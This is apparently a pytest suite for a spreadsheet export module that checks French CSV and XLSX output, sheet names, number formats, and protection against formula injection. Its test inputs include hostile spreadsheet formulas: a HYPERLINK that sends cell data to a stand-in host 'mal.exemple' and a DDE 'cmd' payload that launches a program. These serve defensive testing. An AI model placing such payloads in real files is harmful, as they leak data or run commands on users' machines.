"""Tables for spreadsheets: no formula gets in, numbers stay numbers, French settings open them."""

import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from syndication.kit.tables import Column, Kind, Table, spelled, to_csv
from syndication.kit.workbooks import to_xlsx

COLUMNS = (
    Column("nom", "Formation"), Column("repondants", "Répondants", "integer"), Column("ecart", "Écart", "decimal"),
    Column("part", "Contents", "percent"), Column("jour", "Depuis", "date"),
)  # fmt: skip
ROW = {"nom": "CAP cuisine", "repondants": 1234, "ecart": -1.5, "part": 86, "jour": date(2026, 11, 23)}
FORMULAS = (
    '=HYPERLINK("https://mal.exemple/?v="&A1,"ici")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1",
    "＝1+1", 'x;"=1+1', "x, =1+1", "x\n=cmd|' /C calc'!A0",
)  # fmt: skip


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def sheets(data: bytes) -> Sequence[Worksheet]:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets


def test_a_french_spreadsheet_opens_the_csv_by_a_double_click() -> None:
    data = to_csv([ROW], COLUMNS)
    assert data.startswith(b"\xef\xbb\xbfFormation;R\xc3\xa9pondants;")
    assert data.endswith(b"\r\n")
    assert cells(data)[1] == ["CAP cuisine", "1234", "-1,5", "86", "2026-11-23"]


def test_what_is_missing_is_an_empty_cell() -> None:
    assert cells(to_csv([{}, {"nom": None}], COLUMNS))[1:] == [[""] * 5] * 2
    (sheet,) = sheets(to_xlsx([Table("T", COLUMNS, [{}])]))
    assert [sheet.cell(2, place).value for place in range(1, 6)] == [None] * 5


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_is_a_formula_in_a_csv_even_for_who_splits_elsewhere(formula: str) -> None:
    (_, (cell,)) = cells(to_csv([{"nom": formula}], COLUMNS[:1]))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    for separator in (";", ",", "\t", "\n", "\r"):
        for piece in cell.split(separator)[1:]:
            assert not piece.lstrip(' "').startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("formula", [*FORMULAS, "#N/A", "#REF!"])
def test_no_text_is_a_formula_nor_an_error_in_a_workbook(formula: str) -> None:
    (sheet,) = sheets(to_xlsx([Table(formula, [Column("nom", formula)], [{"nom": formula}])]))
    for line in (1, 2):
        cell = sheet.cell(line, 1)
        assert cell.data_type == "s"
        assert not str(cell.value).startswith("=")


def test_numbers_and_dates_stay_what_they_are_negative_ones_too() -> None:
    (sheet,) = sheets(to_xlsx([Table("T", COLUMNS, [ROW])]))
    line = [sheet.cell(2, place) for place in range(1, 6)]
    assert [cell.value for cell in line] == ["CAP cuisine", 1234, -1.5, 86, datetime(2026, 11, 23)]
    assert [cell.data_type for cell in line] == ["s", "n", "n", "n", "d"]
    assert [cell.number_format for cell in line][1:] == ["#,##0", "#,##0.0", '0"\u00a0%"', "dd/mm/yyyy"]


def test_an_instant_loses_its_zone_which_workbooks_do_not_know() -> None:
    moment = datetime(2026, 11, 23, 14, 0, tzinfo=UTC)
    (sheet,) = sheets(to_xlsx([Table("T", COLUMNS[4:], [{"jour": moment}])]))
    assert sheet.cell(2, 1).value == datetime(2026, 11, 23, 14, 0)


def test_the_header_stays_in_sight_and_columns_are_wide_enough() -> None:
    (sheet,) = sheets(to_xlsx([Table("T", COLUMNS, [{**ROW, "nom": "a" * 300}, ROW])]))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDE"]
    assert widths == [62, 12, 10, 10, 18]
    assert sheet["A1"].font.bold
    assert sheet["B1"].alignment.horizontal == "right"


def test_sheets_take_names_that_excel_takes_each_its_own() -> None:
    titles = ["Par année [2026/2027]: tout?", "a" * 40, "A" * 40, "", "''", "Feuille"]
    names = [sheet.title for sheet in sheets(to_xlsx([Table(title, COLUMNS, []) for title in titles]))]
    assert names == ["Par année 2026 2027 tout", "a" * 31, "A" * 29 + " 2", "Feuille", "Feuille 2", "Feuille 3"]


def test_a_workbook_of_nothing_opens() -> None:
    assert [sheet.max_row for sheet in sheets(to_xlsx([]))] == [1]


def test_characters_that_no_workbook_may_hold_are_left_out_and_the_longest_text_is_cut() -> None:
    (sheet,) = sheets(to_xlsx([Table("T\u0001", COLUMNS[:1], [{"nom": "a\u0000b\u000bc"}, {"nom": "é" * 40_000}])]))
    assert sheet["A2"].value == "abc"
    assert len(sheet["A3"].value) == 32_767


@pytest.mark.parametrize(
    ("value", "kind", "said"),
    [
        (1234, "integer", "1\u202f234"),
        (1234.5, "decimal", "1\u202f234,5"),
        (-1.5, "decimal", "\u22121,5"),
        (-0.01, "decimal", "0,0"),
        (86, "percent", "86\u00a0%"),
        (72.4, "percent", "72\u00a0%"),
        (date(2026, 11, 23), "date", "23\u00a0novembre\u00a02026"),
        (True, "text", "oui"),
        ("x", "text", "x"),
        (None, "integer", "–"),
    ],
)
def test_values_are_spelled_the_french_way(value: object, kind: Kind, said: str) -> None:
    assert spelled(value, kind) == said
